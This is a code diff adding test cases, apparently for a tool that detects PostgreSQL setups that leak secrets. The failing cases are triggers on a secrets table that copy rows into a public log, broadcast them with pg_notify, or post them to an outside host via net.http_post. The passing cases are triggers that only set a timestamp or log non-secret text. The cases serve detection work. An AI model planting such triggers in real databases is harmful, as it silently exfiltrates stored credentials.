@@ -410,6 +410,38 @@ CASES: dict[str, tuple[Case, ...]] = {
             says=f"publication everything: sends {SECRETS}",
             repaired_by="postgres",
         ),
+        *(
+            failed(
+                f"a trigger copies it: {how}",
+                sql(
+                    "create table public.log (id bigserial, entry jsonb)",
+                    "create function public.log() returns trigger language plpgsql as"
+                    f" $$ begin {how}; return new; end $$",
+                    f"create trigger log after update on {SECRETS} for each row execute function public.log()",
+                ),
+                says="trigger log: hands each secret that is stored to public.log(), which writes it elsewhere",
+                repaired_by="postgres",
+                then=equals(True, "select to_regclass('public.log') is not null"),
+            )
+            for how in (
+                "insert into public.log (entry) values (to_jsonb(new))",
+                "INSERT INTO public.log (entry) SELECT jsonb_build_object('was', old.secret)",
+                "perform net.http_post('https://example.com', to_jsonb(NEW))",
+                "perform pg_notify('changes', row_to_json(new)::text)",
+            )
+        ),
+        fine(
+            "a trigger notes the time, and another one that something changed",
+            sql(
+                "create table public.log (id bigserial, entry text)",
+                "create function public.touch() returns trigger language plpgsql as"
+                " $$ begin new.updated_at := now(); /* insert into log values (new.secret) */ return new; end $$",
+                "create function public.log() returns trigger language plpgsql as"
+                " $$ begin insert into public.log (entry) values (new.name || ' was set'); return new; end $$",
+                f"create trigger touch before update on {SECRETS} for each row execute function public.touch()",
+                f"create trigger log after update on {SECRETS} for each row execute function public.log()",
+            ),
+        ),
         fine(
             "nobody else can read it",
             sql(
